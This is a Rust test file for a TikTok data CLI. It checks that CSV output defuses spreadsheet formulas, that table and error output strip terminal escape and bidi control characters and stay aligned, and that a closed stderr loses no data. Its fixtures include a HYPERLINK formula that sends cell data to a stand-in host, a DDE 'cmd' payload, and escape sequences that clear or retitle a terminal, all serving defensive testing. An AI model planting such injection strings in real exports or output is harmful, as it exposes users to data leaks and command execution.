//! Strangers' text through `keyapi-tiktok`: CSV that spreadsheets do not execute, a table
//! and error lines that terminals do not obey and that stay aligned with wide characters,
//! JSON exactly as received, and a closed stderr that costs no data.

use std::process::Stdio;
use std::time::Duration;

use crate::common::*;
use serde_json::{Value, json};
use tokio::io::AsyncReadExt;
use unicode_width::UnicodeWidthStr;

/// An item whose handle, nickname and caption were written by someone hostile.
fn hostile(rank: usize, caption: &str, handle: &str, nick: &str) -> Value {
    let mut item = item(rank);
    item["video_desc"] = json!(caption);
    item["unique_id"] = json!(handle);
    item["nick_name"] = json!(nick);
    item
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

#[tokio::test]
async fn csv_cells_that_would_start_a_formula_are_defused() {
    let captions = [
        FORMULA,
        "+1 like",
        "-2 dislikes",
        "@SUM(A1:A9)",
        "\tleading tab",
        "\rleading return",
        "plain \u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7} \u{1b}[31mred\u{9b}0m",
    ];
    let items: Vec<Value> = captions
        .iter()
        .enumerate()
        .map(|(i, caption)| hostile(i + 1, caption, "=cmd|' /C calc'!A0", "@nick"))
        .collect();
    let server = serve(success(items.clone())).await;
    let run = videos(&server, &["--format", "csv"]).await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!run.stdout.contains('\u{1b}') && !run.stdout.contains('\u{9b}'));
    assert!(!run.stdout.contains('\u{7}'));
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|c| c == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let descriptions: Vec<&str> = rows.iter().map(|r| &r[column("description")]).collect();
    assert_eq!(
        descriptions,
        [
            &format!("'{FORMULA}")[..],
            "'+1 like",
            "'-2 dislikes",
            "'@SUM(A1:A9)",
            "'\tleading tab",
            "'\rleading return",
            "plain ]8;;http://evil.examplelink]8;; [31mred0m",
        ]
    );
    for row in &rows {
        assert_eq!(&row[column("unique_id")], "'=cmd|' /C calc'!A0");
        assert_eq!(&row[column("nick_name")], "'@nick");
        // Numbers stay numbers.
        assert!(row[column("views")].parse::<u64>().is_ok());
        assert_eq!(&row[column("gmv")], "44613.0");
    }

    // JSON keeps the text exactly as received.
    let run = videos(&server, &["--format", "json"]).await;
    let records: Vec<Value> = serde_json::from_str(&run.stdout).unwrap();
    for (record, caption) in records.iter().zip(captions) {
        assert_eq!(record["description"], caption);
        assert_eq!(record["unique_id"], "=cmd|' /C calc'!A0");
    }
}

/// The display column at which `needle` starts in `line`.
fn column_of(line: &str, needle: &str) -> usize {
    let at = line
        .find(needle)
        .unwrap_or_else(|| panic!("{needle} not in {line}"));
    line[..at].width()
}

#[tokio::test]
async fn the_table_is_clean_and_aligned_by_display_width() {
    let items = vec![
        hostile(1, "plain caption", "ascii", "Ascii"),
        hostile(
            2,
            "🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲🧲",
            "东京タワー大好き東京",
            "東京",
        ),
        hostile(
            3,
            "safe\u{202e}txt.exe\u{200b}\u{2066}x\u{2069}\u{feff} 中文字幕中文字幕中文字幕中文字幕",
            "a\u{200d}b\u{202e}c",
            "x",
        ),
        hostile(
            4,
            "\u{1b}[2J\u{1b}]0;pwned\u{7}cleared",
            "e\u{301}mile",
            "É",
        ),
    ];
    let server = serve(success(items)).await;
    let run = videos(&server, &[]).await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 5, "{}", run.stdout);
    for forbidden in [
        '\u{1b}', '\u{7}', '\u{202e}', '\u{200b}', '\u{200d}', '\u{2066}', '\u{2069}', '\u{feff}',
    ] {
        assert!(
            !run.stdout.contains(forbidden),
            "{forbidden:?} in {}",
            run.stdout
        );
    }
    for line in &lines {
        assert!(line.width() <= 120, "{} wide: {line}", line.width());
    }
    // Left-aligned columns start, and right-aligned ones end, where the header's do.
    let header = lines[0];
    for (rank, line) in lines[1..].iter().enumerate() {
        assert_eq!(
            column_of(line, "44.6K") + 5,
            column_of(header, "GMV") + 3,
            "{line}"
        );
        assert_eq!(column_of(line, "@"), column_of(header, "CREATOR"), "{line}");
        assert_eq!(
            column_of(line, "2026-01-31"),
            column_of(header, "POSTED"),
            "{line}"
        );
        let video_id = format!("76013979779865{:05}", rank + 1);
        assert_eq!(
            column_of(line, &video_id),
            column_of(header, "VIDEO ID"),
            "{line}"
        );
        let description = column_of(line, &video_id) + video_id.len() + 2;
        assert_eq!(description, column_of(header, "DESCRIPTION"), "{line}");
    }
    assert!(lines[2].contains("@东京タワー大好"), "{}", lines[2]);
    assert!(lines[3].contains("safetxt.exex"), "{}", lines[3]);
}

#[tokio::test]
async fn error_lines_are_cleaned_and_bounded() {
    let message = format!(
        "bad\u{1b}]0;pwned\u{7} \u{202e}gnirts {}",
        "very long upstream text ".repeat(500)
    );
    let server = serve(failure(500, 500, &message, "req\u{1b}[2J-9")).await;
    let run = videos(&server, &["--max-retries", "0"]).await;
    assert_eq!(run.code, 1);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    for forbidden in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(!run.stderr.contains(forbidden), "{}", run.stderr);
    }
    assert!(
        run.stderr
            .starts_with("error: server (HTTP 500, code 500): bad]0;pwned gnirts very long")
    );
    assert!(
        run.stderr.chars().count() <= 1001,
        "{} chars",
        run.stderr.chars().count()
    );
}

/// Runs `videos` with `extra` with stderr a pipe whose reader is gone before the
/// first warning is written.
async fn with_closed_stderr(server: &wiremock::MockServer, extra: &[&str]) -> (i32, String) {
    let uri = server.uri();
    let mut args = extra.to_vec();
    args.extend(["--base-url", uri.as_str()]);
    let mut command = videos_command(&args);
    command.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().expect("the binary runs");
    drop(child.stderr.take());
    let mut stdout = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .await
        .unwrap();
    let status = tokio::time::timeout(Duration::from_secs(60), child.wait())
        .await
        .expect("the binary finishes")
        .unwrap();
    (status.code().expect("exits normally, no panic"), stdout)
}

#[tokio::test]
async fn a_closed_stderr_loses_no_data() {
    let mut drifted: Vec<Value> = (1..=10).map(item).collect();
    for item in &mut drifted {
        item["duration"] = json!("fifteen");
    }
    let server = serve(success(drifted).set_delay(Duration::from_millis(200))).await;
    // A weekly date off its Monday warns before the request; every item warns after.
    for (format, verbose) in [
        ("ndjson", ""),
        ("csv", ""),
        ("table", ""),
        ("json", ""),
        ("ndjson", "-vv"),
    ] {
        let mut args = vec![
            "--format",
            format,
            "--period",
            "weekly",
            "--date",
            "2026-11-25",
        ];
        if !verbose.is_empty() {
            args.push(verbose);
        }
        let (code, stdout) = with_closed_stderr(&server, &args).await;
        assert_eq!(code, 0, "{format}: {stdout}");
        let records = match format {
            "csv" => csv::Reader::from_reader(stdout.as_bytes())
                .records()
                .count(),
            "table" => stdout.lines().count() - 1,
            "json" => serde_json::from_str::<Vec<Value>>(&stdout).unwrap().len(),
            _ => stdout.lines().count(),
        };
        assert_eq!(records, 10, "{format} {verbose}: {stdout}");
    }
    // A failure still sets the exit status.
    let server =
        serve(failure(429, 429, "qps limit exceeded", "abc").insert_header("retry-after", "0"))
            .await;
    for verbose in [&[][..], &["-v"]] {
        let mut args = vec!["--max-retries", "1"];
        args.extend_from_slice(verbose);
        let (code, stdout) = with_closed_stderr(&server, &args).await;
        assert_eq!((code, stdout.as_str()), (5, ""));
    }
}
